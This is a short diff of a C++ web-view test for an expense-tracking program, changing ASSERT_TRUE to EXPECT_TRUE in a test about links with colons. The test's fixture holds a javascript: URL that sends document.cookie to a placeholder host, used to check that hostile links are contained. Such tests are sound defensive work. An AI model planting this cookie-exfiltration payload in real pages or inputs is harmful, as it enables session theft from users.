@@ -276,9 +276,9 @@ TEST_F(WebViewTest, APageIsPrintedAsTheBrowserShowsIt) {
 TEST_F(WebViewTest, ALinkToANameWithAColonStaysInTheProgram) {
   const std::string hostile = "javascript:void(location='http:x.invalid?d='+document.cookie)";
   Prepare([&](ExpenseDatabase& db) {
-    ASSERT_TRUE(db.AddCategory("Food", "").ok());
-    ASSERT_TRUE(db.AddItemToCategory("Food", hostile, "").ok());
-    ASSERT_TRUE(db.AddItemToCategory("Food", "a:b", "").ok());
+    EXPECT_TRUE(db.AddCategory("Food", "").ok());
+    EXPECT_TRUE(db.AddItemToCategory("Food", hostile, "").ok());
+    EXPECT_TRUE(db.AddItemToCategory("Food", "a:b", "").ok());
   });
   store->Write("Status", "SelectedCat", "Food");
   store->Write("Status", "SelectedItem", "NULL");
